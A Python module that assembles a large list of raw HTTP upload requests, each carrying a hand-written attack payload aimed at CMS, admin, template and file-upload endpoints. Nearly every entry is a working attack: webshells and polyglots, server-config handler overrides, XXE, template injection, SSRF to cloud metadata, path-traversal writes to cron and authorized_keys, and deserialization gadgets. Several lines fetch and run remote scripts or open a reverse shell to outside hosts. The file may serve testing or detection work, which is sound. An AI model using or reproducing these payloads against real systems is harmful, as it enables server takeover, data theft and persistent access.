"""Blind attack batch ZD: attacks through uploads, CMS and admin back-ends, page builders, rich-text and e-mail templates, written by hand."""
from __future__ import annotations

import json

_UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
)
_BND = "----WebKitFormBoundaryZd4qK9mXr2TfLw8B"


def _mp(path: str, parts: list[tuple[str, str, str]], host: str = "app.example",
        boundary: str = _BND, method: str = "POST", extra: str = "") -> str:
    """Build a raw multipart/form-data request with an exact Content-Length."""
    body = ""
    for disp, ctype, content in parts:
        body += f"--{boundary}\r\nContent-Disposition: form-data; {disp}\r\n"
        if ctype:
            body += f"Content-Type: {ctype}\r\n"
        body += "\r\n" + content + "\r\n"
    body += f"--{boundary}--\r\n"
    return (
        f"{method} {path} HTTP/1.1\r\n"
        f"Host: {host}\r\n"
        f"User-Agent: {_UA}\r\n"
        "Accept: application/json, text/javascript, */*; q=0.01\r\n"
        f"Origin: https://{host}\r\n"
        f"Referer: https://{host}/admin/\r\n"
        f"{extra}"
        f"Content-Type: multipart/form-data; boundary={boundary}\r\n"
        f"Content-Length: {len(body.encode('utf-8'))}\r\n"
        "\r\n" + body
    )


def _f(filename: str, ctype: str, content: str, field: str = "file") -> tuple[str, str, str]:
    return (f'name="{field}"; filename="{filename}"', ctype, content)


def _v(name: str, value: str) -> tuple[str, str, str]:
    return (f'name="{name}"', "", value)


def _up(path: str, filename: str, ctype: str, content: str, field: str = "file",
        fields: tuple[tuple[str, str], ...] = ()) -> str:
    parts = [_v(k, v) for k, v in fields] + [_f(filename, ctype, content, field)]
    return _mp(path, parts)


def _req(method: str, path: str, ctype: str, body: str, extra: str = "") -> str:
    """Build a raw non-multipart request with an exact Content-Length."""
    return (
        f"{method} {path} HTTP/1.1\r\n"
        "Host: app.example\r\n"
        f"User-Agent: {_UA}\r\n"
        "Accept: */*\r\n"
        f"{extra}"
        f"Content-Type: {ctype}\r\n"
        f"Content-Length: {len(body.encode('utf-8'))}\r\n"
        "\r\n" + body
    )


_j = json.dumps

_ASPX_SHELL = (
    '<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %>'
    '<% var p = new Process(); p.StartInfo.FileName = "cmd.exe"; '
    'p.StartInfo.Arguments = "/c " + Request["c"]; p.StartInfo.UseShellExecute = false; '
    'p.StartInfo.RedirectStandardOutput = true; p.Start(); '
    'Response.Write(p.StandardOutput.ReadToEnd()); %>'
)

_WEB_CONFIG = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    "<configuration>\n"
    "  <system.webServer>\n"
    '    <handlers accessPolicy="Read, Script, Write">\n'
    '      <add name="web_config" path="*.config" verb="*" modules="IsapiModule" '
    'scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="Unspecified" '
    'requireAccess="Write" preCondition="bitness64" />\n'
    "    </handlers>\n"
    "    <security><requestFiltering>"
    '<fileExtensions><remove fileExtension=".config" /></fileExtensions>'
    '<hiddenSegments><remove segment="web.config" /></hiddenSegments>'
    "</requestFiltering></security>\n"
    "  </system.webServer>\n"
    "</configuration>\n"
    "<!--\n"
    '<% Response.write(CreateObject("WScript.Shell").Exec("cmd.exe /c whoami").StdOut.ReadAll()) %>\n'
    "-->\n"
)

BLIND_ATTACKS_ZD: list[tuple[str, str, str, str, str]] = [
    # ------------------------------------------------------------------
    # 1. Uploads: webshells, polyglots, active content, config files
    # ------------------------------------------------------------------
    ("php", "WordPress async media upload: GIF89a polyglot with system() shell, .php.gif double extension", "raw", "",
     _up("/wp-admin/async-upload.php", "avatar.php.gif", "image/gif",
         "GIF89a\n<?php system($_GET['c']); ?>\n", field="async-upload",
         fields=(("name", "avatar.php.gif"), ("action", "upload-attachment"), ("_wpnonce", "3f9c2a7b1e")))),
    ("php", "profile avatar upload as .phtml with backtick short-echo shell claiming image/png", "raw", "",
     _up("/account/avatar", "me.phtml", "image/png", "<?=`$_GET[0]`?>")),
    ("php", "document upload .php5 with eval(base64_decode($_POST)) one-liner", "raw", "",
     _up("/api/v1/documents/upload", "q3-report.php5", "application/octet-stream",
         "<?php @eval(base64_decode($_POST['x'])); ?>")),
    ("php", ".htaccess upload mapping .jpg/.png to the PHP handler", "raw", "",
     _up("/admin/media/upload", ".htaccess", "text/plain",
         "AddType application/x-httpd-php .jpg .png\n")),
    ("php", "wp-file-manager connector (CVE-2020-25213) unauthenticated PHP shell upload", "raw", "",
     _up("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "x.php", "image/png",
         "<?php if(isset($_REQUEST['cmd'])){echo '<pre>';passthru($_REQUEST['cmd']);echo '</pre>';} ?>",
         field="upload[]", fields=(("cmd", "upload"), ("target", "l1_Lw")))),
    ("php", ".htaccess FilesMatch forcing SetHandler php for uploaded .png files", "raw", "",
     _up("/cms/assets/upload", ".htaccess", "application/octet-stream",
         '<FilesMatch "\\.png$">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n')),
    ("php", ".user.ini auto_prepend_file pointing at an uploaded GIF with PHP inside", "raw", "",
     _up("/uploads/handler", ".user.ini", "text/plain",
         "auto_prepend_file=avatar.gif\n")),
    ("rce", "IIS web.config upload that makes .config run as classic ASP with WScript.Shell", "raw", "",
     _up("/umbraco/backoffice/UmbracoApi/Media/PostAddFile", "web.config", "text/xml", _WEB_CONFIG)),
    ("rce", "ASPX Process.Start webshell with IIS semicolon trick report.aspx;.jpg", "raw", "",
     _up("/Admin/FileManager/Upload", "report.aspx;.jpg", "image/jpeg", _ASPX_SHELL)),
    ("java", "JSP Runtime.exec webshell hidden behind %PDF header on claims attachment", "raw", "",
     _up("/portal/claims/attachments", "invoice.jsp", "application/pdf",
         '%PDF-1.4\n<%@ page import="java.io.*" %><% String c = request.getParameter("cmd"); '
         'if (c != null) { Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",c}); '
         'BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); String l; '
         'while ((l = r.readLine()) != null) { out.println(l); } } %>\n%%EOF\n')),
    ("java", "JSPX XML-syntax webshell with jsp:scriptlet Runtime.exec", "raw", "",
     _up("/help/upload", "help.jspx", "text/xml",
         '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">'
         '<jsp:directive.page contentType="text/html"/>'
         '<jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter("x"));</jsp:scriptlet></jsp:root>')),
    ("xss", "SVG logo with inline <script> exfiltrating document.cookie", "raw", "",
     _up("/admin/brand/logo", "logo.svg", "image/svg+xml",
         '<?xml version="1.0" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
         '<rect width="100" height="100" fill="#c00"/><script type="text/javascript">'
         'fetch("https://x.example/c?"+encodeURIComponent(document.cookie))</script></svg>\n')),
    ("xss", "SVG avatar with onload handler on the root element", "raw", "",
     _up("/profile/avatar", "me.svg", "image/svg+xml",
         '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="40" cx="50" cy="50"/></svg>')),
    ("xss", "SVG foreignObject embedding an XHTML iframe srcdoc script", "raw", "",
     _up("/ghost/api/admin/images/upload/", "hero.svg", "image/svg+xml",
         '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="500" height="500">'
         '<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.alert(document.cookie)&lt;/script&gt;"></iframe>'
         '</foreignObject></svg>')),
    ("xxe", "SVG avatar with DOCTYPE external entity reading /etc/passwd during server-side rasterising", "raw", "",
     _up("/profile/avatar", "avatar.svg", "image/svg+xml",
         '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'
         '<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600"><text x="10" y="20">&xxe;</text></svg>\n')),
    ("xxe", "catalog XML import with out-of-band parameter entity DTD", "raw", "",
     _up("/admin/catalog/import", "products.xml", "text/xml",
         '<?xml version="1.0"?>\n<!DOCTYPE catalog [ <!ENTITY % remote SYSTEM "http://198.18.0.5/oob.dtd"> %remote; %init; %trick; ]>\n'
         '<catalog><product sku="A1"><name>Lamp</name></product></catalog>\n')),
    ("xss", "careers CV upload as HTML with cookie-stealing script", "raw", "",
     _up("/careers/apply", "resume.html", "text/html",
         '<!DOCTYPE html><html><body><h1>CV</h1><script>new Image().src="https://x.example/l?c="'
         '+document.cookie+"&u="+location.href</script></body></html>',
         field="cv", fields=(("name", "Dana Smith"), ("email", "dana@x.example")))),
    ("xss", "XHTML upload with namespaced script element", "raw", "",
     _up("/kb/attachments", "notes.xhtml", "application/xhtml+xml",
         '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
         '<script>alert(document.domain)</script></body></html>')),
    ("php", "XSLT stylesheet upload calling php:function('system')", "raw", "",
     _up("/admin/feeds/stylesheet", "feed-transform.xsl", "application/xslt+xml",
         '<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
         'xmlns:php="http://php.net/xsl"><xsl:template match="/">'
         "<xsl:value-of select=\"php:function('system','id')\"/></xsl:template></xsl:stylesheet>\n")),
    ("java", "XSLT with Xalan java extension namespace invoking Runtime.exec", "raw", "",
     _up("/reports/templates/upload", "report.xsl", "text/xml",
         '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
         'xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime" '
         'xmlns:ob="http://xml.apache.org/xalan/java/java.lang.Object"><xsl:template match="/">'
         '<xsl:variable name="r" select="rt:getRuntime()"/>'
         "<xsl:variable name=\"p\" select=\"rt:exec($r,'curl http://198.18.0.7/x.sh -o /tmp/x.sh')\"/>"
         '<xsl:value-of select="ob:toString($p)"/></xsl:template></xsl:stylesheet>')),
    ("xxe", "XSLT 2.0 reading local files with unparsed-text() and metadata via document()", "raw", "",
     _up("/admin/export/xslt", "export.xsl", "text/xml",
         '<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
         "<xsl:value-of select=\"unparsed-text('file:///etc/passwd', 'utf-8')\"/>"
         "<xsl:copy-of select=\"document('http://169.254.169.254/latest/meta-data/')\"/>"
         '</xsl:template></xsl:stylesheet>')),
    ("php", "PDF/PHP polyglot statement.pdf.php with shell_exec", "raw", "",
     _up("/customer/documents", "statement.pdf.php", "application/pdf",
         '%PDF-1.5\n1 0 obj << /Type /Catalog >> endobj\n<?php echo shell_exec($_GET["e"]); ?>\n%%EOF\n')),
    ("php", "GIF/PHAR polyglot with __HALT_COMPILER stub and Laravel PendingBroadcast gadget metadata", "raw", "",
     _up("/forum/attachments", "cover.gif", "image/gif",
         'GIF89a<?php __HALT_COMPILER(); ?>\n'
         'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\\0*\\0events";'
         'O:25:"Illuminate\\Bus\\Dispatcher":1:{s:16:"\\0*\\0queueResolver";s:6:"system";}'
         's:8:"\\0*\\0event";s:2:"id";}test.txt')),
    ("ssi", "landing page upload as .shtml with <!--#exec cmd-->", "raw", "",
     _up("/marketing/landing/upload", "landing.shtml", "text/html",
         '<html><body><h1>Offer</h1><!--#exec cmd="id; cat /etc/passwd" --></body></html>')),
    ("ssi", ".stm upload with include virtual traversal and echo", "raw", "",
     _up("/marketing/landing/upload", "promo.stm", "text/html",
         '<!--#include virtual="/../../../../etc/passwd" --><!--#echo var="DATE_LOCAL" -->')),
    ("generic", "newsletter subscriber CSV import carrying DDE and HYPERLINK formulas", "raw", "",
     _up("/admin/newsletter/import", "subscribers.csv", "text/csv",
         "email,first_name,last_name\n"
         "alice@x.example,=cmd|' /C calc'!A0,Smith\n"
         'bob@x.example,"=HYPERLINK(""https://x.example/?leak=""&A2,""Details"")",Jones\n')),
    ("rce", "ImageTragick MVG disguised as PNG, fill url() with shell pipe", "raw", "",
     _up("/admin/banners/upload", "banner.png", "image/png",
         "push graphic-context\nviewbox 0 0 640 480\n"
         "fill 'url(https://x.example/img.jpg\"|curl -s http://198.18.0.7/s.sh | sh\")'\n"
         "pop graphic-context\n")),
    ("rce", "Ghostscript EPS -dSAFER bypass writing %pipe% OutputFile", "raw", "",
     _up("/admin/print/artwork", "logo.eps", "application/postscript",
         "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nuserdict /setpagedevice undef\nsave\nlegal\n"
         "{ null restore } stopped { pop } if\n{ legal } stopped { pop } if\nrestore\n"
         "mark /OutputFile (%pipe%id > /tmp/gs_out) currentdevice putdeviceprops\n")),
    ("ssrf", "SVG logo whose <image> points at cloud metadata, fetched by the server-side converter", "raw", "",
     _up("/admin/brand/logo", "brand.svg", "image/svg+xml",
         '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="400">'
         '<image xlink:href="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="600" height="400"/></svg>')),
    ("ptrav", "MVG upload reading /etc/passwd through ImageMagick text: coder", "raw", "",
     _up("/gallery/upload", "thumb.mvg", "image/x-mvg",
         "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'text:/etc/passwd'\npop graphic-context\n")),
    ("ssrf", "HLS playlist disguised as AVI: ffmpeg concat of remote header and local file", "raw", "",
     _up("/videos/upload", "intro.avi", "video/x-msvideo",
         "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n"
         "concat:http://x.example/header.m3u8|file:///etc/passwd\n#EXT-X-ENDLIST\n")),
    ("php", "CKEditor image upload endpoint receiving shell.php with image/jpeg content type", "raw", "",
     _up("/ckeditor/upload?CKEditorFuncNum=1&langCode=en", "shell.php", "image/jpeg",
         "<?php if(isset($_REQUEST['cmd'])){ echo \"<pre>\"; passthru($_REQUEST['cmd']); echo \"</pre>\"; } ?>",
         field="upload")),
    ("php", "obfuscated webshell: str_rot13('flfgrz') variable function", "raw", "",
     _up("/admin/media/upload", "thumb.php7", "image/jpeg",
         "<?php $f=str_rot13('flfgrz'); $f($_GET['q']); ?>")),
    ("php", "assert()-based shell uploaded as .pht", "raw", "",
     _up("/forum/attachments", "img.pht", "image/gif", "GIF89a<?php @assert($_POST['a']); ?>")),
    ("php", "legacy <script language=php> shell as .php3", "raw", "",
     _up("/joomla/administrator/index.php?option=com_media&task=file.upload", "logo.php3", "image/png",
         '<script language="php">system($_GET["c"]);</script>', field="Filedata[]")),
    ("rce", "Python plugin upload with traversal overwriting app/plugins/__init__.py", "raw", "",
     _up("/admin/plugins/upload", "../../app/plugins/__init__.py", "text/x-python",
         'import os\nos.system("curl -s http://198.18.0.9/p | sh")\n')),
    ("ssti", "EJS invoice template upload executing child_process", "raw", "",
     _up("/admin/templates/upload", "invoice.ejs", "text/plain",
         "<h1>Invoice</h1><%= process.mainModule.require('child_process').execSync('id').toString() %>")),
    ("ssti", "Twig e-mail template file with filter('system')", "raw", "",
     _up("/admin/templates/upload", "order_confirmation.html.twig", "text/html",
         "<p>Thanks {{ order.customer }}</p>{{ ['id']|filter('system') }}")),
    ("ssti", "Jinja2 welcome-mail template file reaching os.popen via cycler globals", "raw", "",
     _up("/admin/notifications/templates", "welcome.j2", "text/plain",
         "<p>Hi {{ user.name }}</p>{{ cycler.__init__.__globals__.os.popen('id').read() }}")),
    ("java", "FreeMarker .ftl template upload using Execute?new()", "raw", "",
     _up("/admin/templates/upload", "invoice.ftl", "text/plain",
         '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}')),
    ("java", "Velocity .vm footer template reaching java.lang.Runtime via getClass().forName", "raw", "",
     _up("/admin/templates/upload", "mail_footer.vm", "text/plain",
         '#set($s="")\n#set($rt=$s.getClass().forName("java.lang.Runtime"))\n'
         '#set($p=$rt.getRuntime().exec("id"))\n$p.waitFor()\n')),
    ("xxe", "sitemap XML import resolving file:///c:/windows/win.ini into <loc>", "raw", "",
     _up("/admin/seo/sitemap/import", "sitemap.xml", "application/xml",
         '<?xml version="1.0"?>\n<!DOCTYPE urlset [<!ENTITY w SYSTEM "file:///c:/windows/win.ini">]>\n'
         '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>&w;</loc></url></urlset>\n')),
    ("xxe", "RSS feed import with external parameter entity DTD", "raw", "",
     _up("/admin/feeds/import", "news.rss", "application/rss+xml",
         '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://x.example/evil.dtd"> %ext;]>\n'
         '<rss version="2.0"><channel><title>&exfil;</title></channel></rss>\n')),
    ("xss", "SVG with <a xlink:href=javascript:> wrapped around the artwork", "raw", "",
     _up("/products/42/images", "badge.svg", "image/svg+xml",
         '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
         '<a xlink:href="javascript:alert(document.cookie)"><rect width="200" height="50"/>'
         '<text x="10" y="30">Download</text></a></svg>')),
    ("xss", "SVG <animate> rewriting href to javascript:", "raw", "",
     _up("/products/42/images", "icon.svg", "image/svg+xml",
         '<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:alert(1)"/>'
         '<text x="20" y="20">Click me</text></a></svg>')),
    ("xss", "PDF with OpenAction JavaScript submitting form to attacker", "raw", "",
     _up("/support/tickets/attach", "receipt.pdf", "application/pdf",
         "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
         '3 0 obj<</S/JavaScript/JS(app.alert(1); this.submitForm({cURL:"https://x.example/c",cSubmitAs:"HTML"}))>>endobj\n'
         "trailer<</Root 1 0 R>>\n%%EOF\n")),
    ("rce", "Perl CGI script upload running backticks", "raw", "",
     _up("/cgi-bin/upload.cgi", "stats.cgi", "text/x-perl",
         '#!/usr/bin/perl\nprint "Content-type: text/html\\n\\n";\nprint `id; uname -a`;\n')),
    ("php", "WordPress plugin zip upload containing a backdoored plugin PHP member", "raw", "",
     _up("/wp-admin/update.php?action=upload-plugin", "seo-booster.zip", "application/zip",
         "PK\x03\x04\x14\x08evil-seo/evil-seo.php"
         '<?php /* Plugin Name: SEO Booster */ if(isset($_GET["k"])){system($_GET["k"]);} ?>'
         "PK\x01\x02\x14\x03evil-seo/evil-seo.phpPK\x05\x06",
         field="pluginzip",
         fields=(("_wpnonce", "a1b2c3d4e5"), ("_wp_http_referer", "/wp-admin/plugin-install.php"),
                 ("install-plugin-submit", "Install Now")))),
    ("ptrav", "zip slip: archive member ../../../../var/www/html/... written outside extraction dir", "raw", "",
     _up("/admin/import/archive", "assets.zip", "application/zip",
         "PK\x03\x04\x14\x08../../../../var/www/html/wp-content/uploads/s.php"
         '<?php @eval($_POST["p"]); ?>'
         "PK\x01\x02\x14\x03../../../../var/www/html/wp-content/uploads/s.phpPK\x05\x06")),
    ("ptrav", "tar backup restore with ../ member name dropping a cron job", "raw", "",
     _up("/admin/backup/restore", "theme-backup.tar", "application/x-tar",
         "../../../../etc/cron.d/zz0000644 0000000 0000000 00000000072 14610341025 ustar  root root\n"
         "* * * * * root curl -s http://198.18.0.2/c | sh\n")),
    ("xxe", "SVG with XInclude parse=text of a local file", "raw", "",
     _up("/profile/avatar", "pic.svg", "image/svg+xml",
         '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude">'
         '<text x="0" y="20"><xi:include href="file:///etc/hostname" parse="text"/></text></svg>')),
    ("php", "GIF with EXIF-style UserComment carrying a PHP backtick shell", "raw", "",
     _up("/gallery/upload", "holiday.gif", "image/gif",
         "GIF89a\nExif.Photo.UserComment: <?php echo `$_GET[x]`; ?>\n")),
    ("xss", "image metadata (ImageDescription/Artist) with stored XSS shown in gallery", "raw", "",
     _up("/gallery/upload", "sunset.gif", "image/gif",
         "GIF89a\nExif.Image.ImageDescription: <img src=x onerror=alert(document.domain)>\n"
         "Exif.Image.Artist: <svg/onload=fetch(`//x.example/?${document.cookie}`)>\n")),
    ("sqli", "media upload with time-based SQL injection in the alt_text field", "raw", "",
     _up("/admin/media/upload", "sunset.gif", "image/gif", "GIF89a",
         fields=(("alt_text", "Sunset' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -"), ("caption", "Beach")))),
    ("rce", "file name with shell command reaching an unquoted convert call", "raw", "",
     _up("/profile/photo", "photo.jpg;curl -s http://198.18.0.3/r|sh;#.jpg", "image/jpeg", "GIF89a")),
    ("ptrav", "upload file name traversing into /etc/cron.d with reverse shell content", "raw", "",
     _up("/api/v1/files", "../../../../etc/cron.d/logrotate2", "text/plain",
         "* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/198.18.0.2/4444 0>&1'\n")),
    ("ptrav", "RFC 5987 filename* with encoded ../ overriding the benign filename", "raw", "",
     _mp("/api/v1/files", [(
         "name=\"file\"; filename=\"logo.png\"; filename*=UTF-8''..%2F..%2F..%2Fvar%2Fwww%2Fhtml%2Flogo.php",
         "image/png", '<?php system($_REQUEST["c"]); ?>')])),
    ("ptrav", "Windows backslash traversal filename dropping ASPX into wwwroot", "raw", "",
     _up("/Upload/Attachment", "..\\..\\..\\inetpub\\wwwroot\\aspnet_client\\s.aspx", "image/jpeg", _ASPX_SHELL)),
    ("java", "Spring upload with filename traversal into Tomcat ROOT webapp JSP", "raw", "",
     _up("/api/v1/attachments", "../../../../opt/tomcat/webapps/ROOT/health.jsp", "application/octet-stream",
         '<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("c"))'
         '.getInputStream()).useDelimiter("\\\\A").next()); %>')),
    ("ptrav", "filename traversal overwriting deploy user's authorized_keys", "raw", "",
     _up("/api/v1/files", "../../../../home/deploy/.ssh/authorized_keys", "text/plain",
         "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk3b9Zq0s7mC2pX1vJrT8wqLkV4NfYhD6aGcE2uRtQy ops@x.example\n")),
    ("xss", "stored XSS in uploaded file name rendered in the media library", "raw", "",
     _up("/wp-admin/async-upload.php", "<img src=x onerror=alert(document.domain)>.png", "image/png", "GIF89a",
         field="async-upload", fields=(("action", "upload-attachment"), ("_wpnonce", "77ab12cd34")))),
    ("php", "elFinder connector upload of a .phar shell", "raw", "",
     _up("/elfinder/php/connector.minimal.php", "x.phar", "application/octet-stream",
         "<?php system($_GET['c']); __HALT_COMPILER(); ?>", field="upload[]",
         fields=(("cmd", "upload"), ("target", "l1_Lw")))),
]

BLIND_ATTACKS_ZD += [
    # ---- 1b. more upload content: server config, archives, converters, deserialisation ----
    ("rce", ".htaccess enabling ExecCGI and mapping .jpg to cgi-script", "raw", "",
     _up("/cms/assets/upload", ".htaccess", "text/plain",
         "Options +ExecCGI\nAddHandler cgi-script .jpg\n")),
    ("ssi", ".htaccess turning on server-side includes for uploaded .gif files", "raw", "",
     _up("/cms/assets/upload", ".htaccess", "text/plain",
         "Options +Includes\nAddType text/html .gif\nAddOutputFilter INCLUDES .gif\n")),
    ("rce", "uWSGI ini upload with @(exec://) magic variable", "raw", "",
     _up("/admin/config/upload", "uwsgi.ini", "text/plain",
         "[uwsgi]\nfoo = @(exec://curl -s http://198.18.0.4/u | sh)\n")),
    ("generic", "crossdomain.xml upload granting any origin Flash/Silverlight access", "raw", "",
     _up("/cms/assets/upload", "crossdomain.xml", "text/xml",
         '<?xml version="1.0"?><cross-domain-policy><allow-access-from domain="*" secure="false"/>'
         '<allow-http-request-headers-from domain="*" headers="*"/></cross-domain-policy>')),
    ("xss", "service worker script upload hijacking fetches", "raw", "",
     _up("/cms/assets/upload", "sw.js", "application/javascript",
         "self.addEventListener('fetch',function(e){e.respondWith(fetch('https://x.example/p?u='"
         "+encodeURIComponent(e.request.url)))});")),
    ("php", "WordPress theme zip whose 404.php evals a cookie", "raw", "",
     _up("/wp-admin/update.php?action=upload-theme", "twentyfix.zip", "application/zip",
         "PK\x03\x04\x14\x08twentyfix/style.css/* Theme Name: Twentyfix */"
         "PK\x03\x04\x14\x08twentyfix/404.php"
         '<?php if(!empty($_COOKIE["wp_k"])){eval(base64_decode($_COOKIE["wp_k"]));} ?>PK\x05\x06',
         field="themezip", fields=(("_wpnonce", "9e8d7c6b5a"), ("install-theme-submit", "Install Now")))),
    ("java", "Tomcat manager text deploy of a WAR containing cmd.jsp", "raw", "",
     _req("PUT", "/manager/text/deploy?path=/status&update=true", "application/octet-stream",
          "PK\x03\x04\x14\x08META-INF/MANIFEST.MFManifest-Version: 1.0\n"
          "PK\x03\x04\x14\x08cmd.jsp"
          '<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>'
          "PK\x01\x02\x14\x03cmd.jspPK\x05\x06",
          extra="Authorization: Basic dG9tY2F0OnMzY3JldA==\r\n")),
    ("xxe", "flat ODT document for conversion with a file:// entity", "raw", "",
     _up("/documents/convert", "contract.fodt", "application/vnd.oasis.opendocument.text",
         '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE office:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
         '<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
         'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:mimetype="application/vnd.oasis.opendocument.text">'
         "<office:body><office:text><text:p>&x;</text:p></office:text></office:body></office:document>\n")),
    ("xxe", "XLIFF translation import with remote parameter entity", "raw", "",
     _up("/admin/translations/import", "de.xlf", "application/x-xliff+xml",
         '<?xml version="1.0"?>\n<!DOCTYPE xliff [<!ENTITY % d SYSTEM "http://198.18.0.5/x.dtd">%d;]>\n'
         '<xliff version="1.2"><file source-language="en" target-language="de" datatype="plaintext" original="site">'
         '<body><trans-unit id="1"><source>Home</source><target>&leak;</target></trans-unit></body></file></xliff>\n')),
    ("xxe", "KML store-locator upload reading /proc/self/environ", "raw", "",
     _up("/admin/stores/import", "stores.kml", "application/vnd.google-earth.kml+xml",
         '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY s SYSTEM "file:///proc/self/environ">]>'
         '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&s;</name>'
         "<Point><coordinates>0,0</coordinates></Point></Placemark></kml>")),
    ("ssrf", "invoice HTML template for the PDF renderer iframing the metadata service", "raw", "",
     _up("/admin/invoices/template", "invoice-template.html", "text/html",
         '<html><body><h1>Invoice</h1><iframe src="http://169.254.169.254/latest/meta-data/iam/security-credentials/" '
         'width="800" height="600"></iframe></body></html>')),
    ("ptrav", "HTML for wkhtmltopdf using XHR to read file:///etc/passwd", "raw", "",
     _up("/admin/invoices/template", "quote.html", "text/html",
         "<html><body><script>x=new XMLHttpRequest;x.onload=function(){document.write(this.responseText)};"
         'x.open("GET","file:///etc/passwd");x.send();</script></body></html>')),
    ("xss", "Markdown release notes with javascript: link and raw img onerror", "raw", "",
     _up("/projects/7/files", "CHANGELOG.md", "text/markdown",
         "# Release notes\n\n[Download installer](javascript:fetch('//x.example/'+document.cookie))\n\n"
         "<img src=x onerror=alert(1)>\n")),
    ("rce", "LaTeX upload using \\immediate\\write18 shell escape", "raw", "",
     _up("/papers/compile", "paper.tex", "application/x-tex",
         "\\documentclass{article}\n\\begin{document}\n\\immediate\\write18{curl -s http://198.18.0.8/l | sh}\n\\end{document}\n")),
    ("ptrav", "LaTeX upload with \\input{/etc/passwd}", "raw", "",
     _up("/papers/compile", "notes.tex", "application/x-tex",
         "\\documentclass{article}\\begin{document}\\input{/etc/passwd}\\end{document}")),
    ("java", "settings restore of a base64 Java serialized object (rO0AB...)", "raw", "",
     _up("/admin/system/restore", "settings.ser", "application/octet-stream",
         "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3"
         "CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAAS"
         "TGphdmEvbGFuZy9TdHJpbmc7TAAEZmlsZXEAfgADTAAEaG9zdHEAfgADTAAIcHJvdG9jb2xxAH4AA0wAA3JlZnEAfgAD")),
    ("php", "theme options import with serialized Guzzle FileCookieJar gadget writing a PHP file", "raw", "",
     _up("/wp-admin/admin.php?page=theme-options&action=import", "theme-options.dat", "application/octet-stream",
         'a:2:{s:5:"theme";s:4:"dark";s:6:"widget";O:31:"GuzzleHttp\\Cookie\\FileCookieJar":4:{'
         's:41:"\\0GuzzleHttp\\Cookie\\FileCookieJar\\0filename";s:35:"/var/www/html/wp-content/uploads/x.php";'
         's:52:"\\0GuzzleHttp\\Cookie\\FileCookieJar\\0storeSessionCookies";b:1;'
         's:36:"\\0GuzzleHttp\\Cookie\\CookieJar\\0cookies";a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:{'
         's:33:"\\0GuzzleHttp\\Cookie\\SetCookie\\0data";a:3:{s:7:"Expires";i:1;s:7:"Discard";b:0;'
         's:5:"Value";s:30:"<?php system($_GET[\'c\']); ?>";}}}s:39:"\\0GuzzleHttp\\Cookie\\CookieJar\\0strictMode";N;}}')),
    ("nosqli", "user JSON import with $ne role and $where sleep", "raw", "",
     _up("/admin/users/import", "users.json", "application/json",
         '[{"email":"a@x.example","role":{"$ne":"user"}},'
         '{"$where":"function(){ sleep(5000); return true; }"}]')),
    ("php", "WebDAV PUT of a PHP shell into the uploads collection", "raw", "",
     _req("PUT", "/webdav/uploads/cmd.php", "application/x-httpd-php",
          "<?php echo passthru($_GET['cmd']); ?>")),
    ("rce", "WebDAV MOVE renaming an uploaded .txt to shell.asp;.txt on IIS", "raw", "",
